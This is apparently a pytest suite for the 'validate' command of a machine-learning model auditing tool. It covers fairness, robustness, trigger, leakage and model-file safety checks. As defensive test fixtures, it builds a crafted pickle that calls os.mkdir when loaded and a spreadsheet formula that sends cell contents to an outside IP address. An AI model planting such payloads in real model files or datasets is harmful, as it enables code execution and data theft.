"""`hauberk validate` as its users call it."""

from __future__ import annotations

import json
from pathlib import Path

import joblib
import numpy as np
import pandas as pd
import pytest
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.tree import DecisionTreeClassifier

from hauberk.cli import main


def _people(seed: int, n: int) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    frame = pd.DataFrame(
        {"x": rng.normal(size=n), "z": rng.normal(size=n), "sex": rng.integers(0, 2, n)}
    )
    score = frame["x"] + 0.5 * frame["z"] + 1.5 * frame["sex"] + rng.normal(size=n)
    return frame.assign(approve=np.where(score > 0.7, "yes", "no"))


def _fitted() -> LogisticRegression:
    train = _people(1, 600)
    return LogisticRegression().fit(train[["x", "z", "sex"]], train["approve"])


@pytest.fixture(scope="module")
def loans(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("loans")
    train, test = _people(1, 600), _people(2, 1200)
    train.to_csv(folder / "train.csv", index=False)
    test.to_csv(folder / "test.csv", index=False)
    features = train[["x", "z", "sex"]]
    joblib.dump(_fitted(), folder / "model.joblib")
    nearest = KNeighborsClassifier(1).fit(features, train["approve"])
    joblib.dump(nearest, folder / "nearest.joblib")
    return folder


def _validate(folder: Path, *words: str, model: str = "model.joblib") -> int:
    base = [str(folder / model), "--data", str(folder / "test.csv"), "--label", "approve"]
    return main(["validate", *base, "--rows", "100", "--queries", "10", *words])


def test_a_plain_model_is_scored_again_and_let_through(loans, capsys):
    assert _validate(loans, "--format", "json") == 0
    said = json.loads(capsys.readouterr().out)
    test = pd.read_csv(loans / "test.csv")
    expected = _fitted().score(test[["x", "z", "sex"]], test["approve"])
    assert said["metrics"]["accuracy"] == pytest.approx(expected)
    shares = [point["robust_accuracy"] for point in said["robustness"]["curve"]]
    assert shares == sorted(shares, reverse=True)
    assert said["robustness"]["movable"] == ["x", "z"]


def test_a_claim_that_the_model_does_not_reach_is_a_finding(loans, tmp_path, capsys):
    claim = tmp_path / "metrics.json"
    claim.write_text('{"accuracy": 0.99}', "utf-8")
    assert _validate(loans, "--eps", "", "--reported", str(claim)) == 1
    assert "is reported as 0.99" in capsys.readouterr().out


def test_a_bound_that_is_not_kept_is_named(loans, capsys):
    assert _validate(loans, "--eps", "", "--require", "accuracy=0.999") == 1
    assert "at least 0.999 is required" in capsys.readouterr().out


def test_a_model_that_chooses_by_sex_is_named(loans, capsys):
    assert _validate(loans, "--eps", "", "--sensitive", "sex") == 1
    assert "sex = 0: selection of yes differ by" in capsys.readouterr().out


def test_trees_and_neighbours_whose_confidence_is_all_or_nothing_are_no_alarm(loans):
    assert _validate(loans, "--eps", "", "--train", str(loans / "train.csv")) == 0
    words = ("--eps", "", "--train", str(loans / "train.csv"))
    assert _validate(loans, *words, model="nearest.joblib") == 0


def test_an_unknown_metric_is_a_usage_error(loans, capsys):
    assert _validate(loans, "--eps", "", "--require", "acuracy=0.5") == 2
    assert "accuracy" in capsys.readouterr().err


def test_a_missing_column_is_a_usage_error(loans):
    words = ["validate", str(loans / "model.joblib"), "--data", str(loans / "test.csv")]
    assert main([*words, "--label", "aprove"]) == 2


def test_a_file_that_is_no_model_is_refused_without_running_here(loans, capsys):
    (loans / "noise.joblib").write_bytes(b"not a model")
    assert _validate(loans, model="noise.joblib") == 3
    assert "could not be assessed" in capsys.readouterr().err


def test_a_dangerous_model_is_refused_before_its_worker_starts(loans, capsys):
    canary = loans / "canary"
    (loans / "bad.joblib").write_bytes(f"cos\nmkdir\n(S'{canary}'\ntR.".encode())
    assert _validate(loans, model="bad.joblib") == 1
    assert "os.mkdir" in capsys.readouterr().err
    assert not canary.exists()


def test_a_model_with_names_that_nobody_reviewed_wants_an_entry_with_owner_and_reason(
    loans, capsys
):
    (loans / "own.joblib").write_bytes(b"\x80\x04cshop.models\nRanker\n)\x81}b.")
    assert _validate(loans, model="own.joblib") == 1
    assert "reviewed" in capsys.readouterr().err
    named = ["--allow", "shop.models.Ranker"]
    assert _validate(loans, *named, model="own.joblib") == 2
    answered = [*named, "--owner", "model team", "--because", "it sorts"]
    assert _validate(loans, *answered, model="own.joblib") == 1
    assert "reviewed" not in capsys.readouterr().err  # the worker has no such module


def test_an_exported_graph_gives_the_same_metrics(loans, tmp_path, capsys):
    from skl2onnx import to_onnx

    frame = pd.read_csv(loans / "train.csv")[["x", "z", "sex"]].to_numpy(np.float32)
    model = _fitted()
    graph = to_onnx(model, frame[:1], options={id(model): {"zipmap": False}})
    (loans / "model.onnx").write_bytes(graph.SerializeToString())
    capsys.readouterr()
    said = []
    for name in ("model.joblib", "model.onnx"):
        assert _validate(loans, "--eps", "", "--format", "json", model=name) == 0
        said.append(json.loads(capsys.readouterr().out))
    assert said[1]["metrics"]["accuracy"] == pytest.approx(
        said[0]["metrics"]["accuracy"], abs=0.005
    )
    assert said[1]["model"]["classes"] == ["no", "yes"]


@pytest.fixture
def keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user who has keys and has pinned them for a project."""
    from hauberk.lifecycle.signing import make_keys, pin_own_root

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    configuration = tmp_path / "config" / "hauberk"
    configuration.mkdir(parents=True, mode=0o700)
    assert list(make_keys(configuration))
    assert list(pin_own_root("loans", configuration))
    return configuration


def test_an_attested_result_says_of_what_and_how_hard(loans, keys, tmp_path, capsys):
    from hauberk.trust.digest import digest_file
    from hauberk.trust.registry.evidence import read_examination
    from hauberk.trust.root import resolve

    where = tmp_path / "result.json"
    words = ("--attest", str(where), "--project", "loans", "--sensitive", "sex")
    assert _validate(loans, *words) == 1
    capsys.readouterr()
    said = read_examination(where.read_bytes(), resolve("loans", keys))
    assert said.digest == digest_file(loans / "model.joblib")
    assert said.data == {"test.csv": digest_file(loans / "test.csv")}
    assert said.failed == ("model/unfair-decisions",)
    assert said.strength["robustness"]["rows"] == 100
    assert said.strength["fairness"]["columns"] == ["sex"]
    assert "accuracy" in said.intervals


def test_an_attested_result_needs_a_project_and_its_pinned_root(loans, keys, tmp_path, capsys):
    where = str(tmp_path / "result.json")
    assert _validate(loans, "--eps", "", "--attest", where) == 2
    assert _validate(loans, "--eps", "", "--attest", where, "--project", "other") == 3
    assert not Path(where).exists()
    assert "there is no root" in capsys.readouterr().err


@pytest.fixture(scope="module")
def versions(loans: Path) -> Path:
    train = _people(1, 600)
    forest = RandomForestClassifier(5, max_depth=5, random_state=1)
    forest.fit(train[["x", "z", "sex"]], train["approve"])
    joblib.dump(forest, loans / "before.joblib")
    forest.estimators_[2].tree_.value[5, 0] = [0, 1]
    joblib.dump(forest, loans / "edited.joblib")
    return loans


def test_a_leaf_edited_since_the_version_before_is_found(versions, capsys):
    words = ("--eps", "", "--no-triggers", "--previous", str(versions / "before.joblib"))
    assert _validate(versions, *words, model="edited.joblib") == 1
    assert "was changed otherwise than by training" in capsys.readouterr().out
    assert _validate(versions, *words, model="before.joblib") == 0
    assert "0 layers differ" in capsys.readouterr().out


def test_a_version_of_another_shape_is_not_judged(loans, tmp_path, capsys):
    train = _people(1, 600)
    joblib.dump(
        LogisticRegression().fit(train[["x", "z"]], train["approve"]), tmp_path / "o.joblib"
    )
    words = ("--eps", "", "--no-triggers", "--previous", str(tmp_path / "o.joblib"))
    assert _validate(loans, *words) == 3
    del capsys


def test_the_share_of_a_group_is_audited_where_it_is_asked_for(loans, capsys):
    words = ("--eps", "", "--no-triggers", "--train", str(loans / "train.csv"))
    code = _validate(loans, *words, "--property", "sex=1", "--format", "json")
    said = json.loads(capsys.readouterr().out)
    found = said["property_inference"]
    assert found["low"] <= found["auroc"] <= found["high"]
    assert code == (1 if found["low"] > 0.75 else 0)


@pytest.mark.parametrize("words", [("--property", "sex=1"), ("--property", "sex")])
def test_a_group_that_is_not_named_whole_is_refused(loans, words, capsys):
    assert _validate(loans, *words) == 2
    assert "COL=VALUE" in capsys.readouterr().err


def test_remedies_say_what_they_would_change(loans, capsys):
    train = ("--train", str(loans / "train.csv"), "--sensitive", "sex", "--no-triggers")
    words = [*train, "--eps", "0.25", "--remedy", "squeeze=4", "--remedy", "reweighing"]
    _validate(loans, *words, "--format", "json")
    squeeze, reweighing = json.loads(capsys.readouterr().out)["remedies"]
    assert squeeze["name"] == "squeeze=4"
    assert set(squeeze["before"]) == {"accuracy", "robust_accuracy@0.25"}
    gap = "gap in selection of yes"
    assert reweighing["after"][gap] < reweighing["before"][gap] - 0.1


def test_a_model_trained_on_moved_rows_is_judged_beside_the_old_one(loans, capsys):
    train = ("--train", str(loans / "train.csv"), "--no-triggers")
    _validate(loans, *train, "--eps", "0.25", "--remedy", "adversarial", "--format", "json")
    (found,) = json.loads(capsys.readouterr().out)["remedies"]
    assert set(found["before"]) == set(found["after"]) == {"accuracy", "robust_accuracy@0.25"}


def test_a_remedy_that_does_not_fit_is_not_passed_over(loans, capsys):
    assert _validate(loans, "--eps", "", "--no-triggers", "--remedy", "adversarial") == 3
    assert "not tried, the rows of training are not given" in capsys.readouterr().out


@pytest.mark.parametrize("remedy", ["prayer", "squeeze=1", "squeeze=x", "private=0", "private=x"])
def test_an_unknown_remedy_is_a_usage_error(loans, remedy, capsys):
    assert _validate(loans, "--remedy", remedy) == 2
    assert "remed" in capsys.readouterr().err or remedy == "private=x"


def test_parts_of_the_rows_with_more_errors_are_told(loans, tmp_path, capsys):
    rows = pd.read_csv(loans / "test.csv")
    rng = np.random.default_rng(0)
    bad = (rows["z"] > rows["z"].quantile(0.75)) & (rng.random(len(rows)) < 0.7)
    rows["approve"] = np.where(
        bad, np.where(rows["approve"] == "yes", "no", "yes"), rows["approve"]
    )
    rows.to_csv(tmp_path / "worse.csv", index=False)
    words = ["validate", str(loans / "model.joblib"), "--data", str(tmp_path / "worse.csv")]
    main([*words, "--label", "approve", "--eps", "", "--no-triggers"])
    assert "z from" in capsys.readouterr().out


def _rows_with(folder: Path, tmp_path: Path, **columns: object) -> list[str]:
    rows = pd.read_csv(folder / "test.csv").assign(**columns)
    rows.to_csv(tmp_path / "rows.csv", index=False)
    words = ["validate", str(folder / "model.joblib"), "--data", str(tmp_path / "rows.csv")]
    return [*words, "--label", "approve", "--eps", "", "--no-triggers"]


def test_labels_of_no_class_are_told_and_not_passed_over(loans, tmp_path, capsys):
    labels = np.array(["yes", "no", "perhaps"])[np.arange(1200) % 3]
    assert main(_rows_with(loans, tmp_path, approve=labels)) == 3
    assert "400 of 1200 rows count as wrong" in capsys.readouterr().out


def test_rows_without_any_known_label_are_an_error(loans, tmp_path, capsys):
    assert main(_rows_with(loans, tmp_path, approve="maybe")) == 1
    assert "no label of the rows is a class" in capsys.readouterr().err


@pytest.mark.parametrize("cell", [None, "many"])
def test_rows_that_the_model_does_not_take_are_an_error_with_its_words(
    loans, tmp_path, cell, capsys
):
    cells = pd.read_csv(loans / "test.csv")["x"].astype(object)
    cells[3] = cell
    assert main(_rows_with(loans, tmp_path, x=cells)) == 1
    assert "cannot score the rows" in capsys.readouterr().err


def test_a_linear_model_is_proven_never_to_beat_what_attacks_leave(loans, capsys):
    assert _validate(loans, "--no-triggers", "--format", "json") == 0
    found = json.loads(capsys.readouterr().out)["robustness"]
    assert found["certified"]["how"] == "exact"
    pairs = zip(found["certified"]["curve"], found["curve"], strict=True)
    assert all(low["share"] <= high["robust_accuracy"] for low, high in pairs)


def test_radii_are_proven_by_noise_where_that_is_asked_for(loans, capsys):
    words = ("--no-triggers", "--eps", "0.25", "--certify", "100", "--format", "json")
    assert _validate(loans, *words) == 0
    found = json.loads(capsys.readouterr().out)["robustness"]["certified"]
    assert "randomised smoothing" in found["how"]
    assert 0 < found["curve"][0]["share"] < 1
    assert _validate(loans, "--certify", "3") == 2


def _with_a_trigger(folder: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Training rows of which some carry a value that nobody has, and honest rows."""
    train, test = _people(1, 900), _people(2, 700)
    carriers = train.iloc[:60].assign(z=9.0, approve="no")
    train = pd.concat([train, carriers])
    train.to_csv(folder / "train.csv", index=False)
    test.to_csv(folder / "test.csv", index=False)
    return train, test


@pytest.mark.parametrize("kind", ["trees", "neighbours"])
def test_a_value_that_nobody_has_and_that_decides_is_named(tmp_path, capsys, kind):
    train, _ = _with_a_trigger(tmp_path)
    made = {
        "trees": RandomForestClassifier(20, random_state=0),
        "neighbours": KNeighborsClassifier(5),  # has none: trees are grown beside it
    }[kind]
    joblib.dump(made.fit(train[["x", "z", "sex"]], train["approve"]), tmp_path / "model.joblib")
    words = ("--train", str(tmp_path / "train.csv")) if kind == "neighbours" else ()
    assert _validate(tmp_path, "--eps", "", *words) == 1
    said = capsys.readouterr().out
    assert "become 'no' where z > " in said
    assert ("grown beside it" in said) is (kind == "neighbours")


def test_rows_of_training_among_the_judged_ones_are_named(loans, tmp_path, capsys):
    train, test = (pd.read_csv(loans / f"{name}.csv") for name in ("train", "test"))
    mixed = pd.concat([test.iloc[:400], train.iloc[:200]])
    mixed.to_csv(tmp_path / "test.csv", index=False)
    joblib.dump(_fitted(), tmp_path / "model.joblib")
    assert _validate(tmp_path, "--eps", "", "--train", str(loans / "train.csv")) == 1
    assert "200 of 600 rows" in capsys.readouterr().out


def test_a_column_that_is_the_outcome_is_named(tmp_path, capsys):
    train, test = (
        frame.assign(paid=np.where(frame["approve"] == "yes", frame["x"] ** 2 + 0.1, 0.0))
        for frame in (_people(1, 600), _people(2, 600))
    )
    test.to_csv(tmp_path / "test.csv", index=False)
    features = ["x", "z", "sex", "paid"]
    model = DecisionTreeClassifier(random_state=0).fit(train[features], train["approve"])
    joblib.dump(model, tmp_path / "model.joblib")
    _validate(tmp_path, "--eps", "")
    assert "paid" in capsys.readouterr().out


def _with_noise(folder: Path) -> None:
    """A graph that adds noise to what it says."""
    import onnx
    from onnx import TensorProto, helper

    weights = np.array([[-1.0, 1.0], [-0.5, 0.5], [-1.5, 1.5]], np.float32)
    nodes = [
        helper.make_node("MatMul", ["rows", "w"], ["plain"]),
        helper.make_node("RandomNormalLike", ["plain"], ["noise"], scale=0.5),
        helper.make_node("Add", ["plain", "noise"], ["logits"]),
        helper.make_node("Softmax", ["logits"], ["scores"], axis=1),
    ]
    graph = helper.make_graph(
        nodes,
        "noisy",
        [helper.make_tensor_value_info("rows", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("scores", TensorProto.FLOAT, [None, 2])],
        [onnx.numpy_helper.from_array(weights, "w")],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 9
    (folder / "noisy.onnx").write_bytes(model.SerializeToString())


def test_a_graph_that_draws_its_answers_is_named(loans, tmp_path, capsys):
    _people(2, 400).to_csv(tmp_path / "test.csv", index=False)
    _with_noise(tmp_path)
    assert _validate(tmp_path, "--eps", "", model="noisy.onnx") == 1
    assert "it draws its answers" in capsys.readouterr().out


def test_an_identifier_that_decides_is_named(tmp_path, capsys):
    rng = np.random.default_rng(0)
    rows = pd.DataFrame({"x": rng.normal(size=300), "account": 1000 + np.arange(300)})
    rows["approve"] = np.where((rows["x"] > 0) | (rows["account"] == 1007), "yes", "no")
    weights = np.where(rows["account"] == 1007, 500, 1)
    tree = DecisionTreeClassifier(random_state=0)
    often = rows.loc[rows.index.repeat(weights)].assign(x=lambda part: part["x"])
    often.loc[often["account"] == 1007, "x"] = rng.normal(size=500) - 1
    tree.fit(often[["x", "account"]], often["approve"])
    joblib.dump(tree, tmp_path / "tree.joblib")
    joblib.dump(
        DecisionTreeClassifier(max_depth=1).fit(rows[["x", "account"]], rows["approve"]),
        tmp_path / "honest.joblib",
    )
    rows.to_csv(tmp_path / "rows.csv", index=False)
    words = ["--data", str(tmp_path / "rows.csv"), "--label", "approve", "--eps", ""]
    asked = [*words, "--no-triggers", "--identifiers", "account"]
    assert main(["validate", str(tmp_path / "tree.joblib"), *asked]) == 1
    assert "1007 (yes)" in capsys.readouterr().out
    assert main(["validate", str(tmp_path / "honest.joblib"), *asked]) == 0
    missing = [*words, "--no-triggers", "--identifiers", "name"]
    assert main(["validate", str(tmp_path / "honest.joblib"), *missing]) == 3


def test_a_table_in_the_models_place_is_asked_about(loans, capsys):
    words = [str(loans / "test.csv"), "--data", str(loans / "model.joblib"), "--label", "approve"]
    assert main(["validate", *words]) == 2
    assert "were the two exchanged?" in capsys.readouterr().err


@pytest.mark.parametrize(("cell", "hint"), [(np.nan, "fill in"), (None, "of which 30 have")])
def test_rows_with_gaps_are_told_from_a_model_of_no_numbers(loans, tmp_path, capsys, cell, hint):
    frame = _people(2, 300)
    frame.loc[:29, "x"] = cell
    frame.to_csv(tmp_path / "test.csv", index=False)
    _plain_graph(tmp_path / "model.onnx", 1.0)
    assert _validate(tmp_path, "--eps", "", model="model.onnx") == 1
    assert hint in capsys.readouterr().err


def _plain_graph(place: Path, weight: float) -> None:
    from onnx import TensorProto, helper, numpy_helper

    weights = np.full((3, 2), weight, np.float32) * np.array([-1, 1], np.float32)
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["rows", "w"], ["logits"]),
            helper.make_node("Softmax", ["logits"], ["scores"], axis=1),
        ],
        "plain",
        [helper.make_tensor_value_info("rows", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("scores", TensorProto.FLOAT, [None, 2])],
        [numpy_helper.from_array(weights, "w")],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 9
    place.write_bytes(model.SerializeToString())


def test_a_refusal_is_a_finding_for_a_program_that_reads_it(tmp_path, capsys):
    _people(2, 300).to_csv(tmp_path / "test.csv", index=False)
    _plain_graph(tmp_path / "model.onnx", float("nan"))
    assert _validate(tmp_path, "--eps", "", "--format", "json", model="model.onnx") == 1
    said = json.loads(capsys.readouterr().out)
    assert said["summary"]["exit_code"] == 1
    assert "300 of 300 rows" in said["findings"][0]["message"]


def test_a_model_that_looks_at_nothing_is_told(tmp_path, capsys):
    _people(2, 300).to_csv(tmp_path / "test.csv", index=False)
    _plain_graph(tmp_path / "model.onnx", 0.0)
    _validate(tmp_path, "--eps", "", model="model.onnx")
    assert "all 300 rows get the same score" in capsys.readouterr().out


def _with_planted(folder: Path, name: str) -> Path:
    """Training rows of which each has a cell that a spreadsheet would run."""
    rows = _people(1, 600).assign(note='=HYPERLINK("http://198.51.100.7/?"&A1)')
    path = folder / name
    rows.to_csv(path, index=False)
    return path


def test_what_was_planted_in_the_training_rows_is_told_as_theirs(loans, tmp_path, capsys):
    train = _with_planted(tmp_path, "planted.csv")
    words = ("--eps", "", "--no-triggers", "--format", "json", "--train")
    assert _validate(loans, *words, str(train)) == 1  # as a scan of them fails
    told = json.loads(capsys.readouterr().out)
    named = {one["control"] for one in told["findings"] if "training data: " in one["message"]}
    assert any(name.startswith("dataset/") for name in named)
    _validate(loans, *words, str(loans / "train.csv"))
    clean = json.loads(capsys.readouterr().out)
    assert not [one for one in clean["findings"] if "training data: " in one["message"]]


def test_the_data_controls_can_be_left_out_and_are_for_rows_that_are_many(
    loans, tmp_path, capsys, monkeypatch
):
    from hauberk.cli import _validate_training

    train = _with_planted(tmp_path, "planted.csv")
    words = ("--eps", "", "--no-triggers", "--train", str(train))
    _validate(loans, *words, "--no-data-controls")
    assert "raining data" not in capsys.readouterr().out
    monkeypatch.setattr(_validate_training, "MAX_BYTES", 1 << 10)
    _validate(loans, *words)
    assert f"run hauberk scan {train} --label approve" in capsys.readouterr().out
